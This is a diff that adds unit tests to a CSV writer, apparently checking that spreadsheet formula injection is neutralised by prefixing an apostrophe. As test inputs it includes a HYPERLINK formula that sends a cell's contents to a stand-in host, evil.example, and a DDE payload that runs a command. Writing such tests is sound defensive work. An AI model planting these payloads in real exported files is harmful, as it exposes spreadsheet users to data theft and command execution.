@@ -137,3 +137,33 @@ describe('writing CSV', () => {
     expect(csvLine(['a', 'b;c', 'd"e', 3, null])).toBe('a;"b;c";"d""e";3;\r\n')
   })
 })
+
+describe('writing CSV that a spreadsheet opens safely', () => {
+  it.each([
+    [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`,
+    ],
+    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
+    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
+    ['-2+3+cmd', `"'-2+3+cmd"`],
+    ['\t=1+1', `"'\t=1+1"`],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['=1', `"'=1"`],
+    ['-', `"'-"`],
+  ])('turns the formula %j into text', (value, cell) => {
+    expect(csvLine([value])).toBe(`${cell}\r\n`)
+  })
+
+  it('leaves numbers alone, negative ones included, in either notation', () => {
+    expect(csvLine([-3, -12.5, '-12,50', '-3', '1.234,56', '-1.234,56', '0,5', 42])).toBe(
+      '-3;-12.5;-12,50;-3;1.234,56;-1.234,56;0,5;42\r\n',
+    )
+  })
+
+  it('quotes text with a comma or tab, so a comma-reading spreadsheet cannot start a cell inside it', () => {
+    expect(csvLine(['Loja,=HYPERLINK("x")', 'a\tb', 'Casa & Cia', '2026-01-31'])).toBe(
+      '"Loja,=HYPERLINK(""x"")";"a\tb";Casa & Cia;2026-01-31\r\n',
+    )
+  })
+})
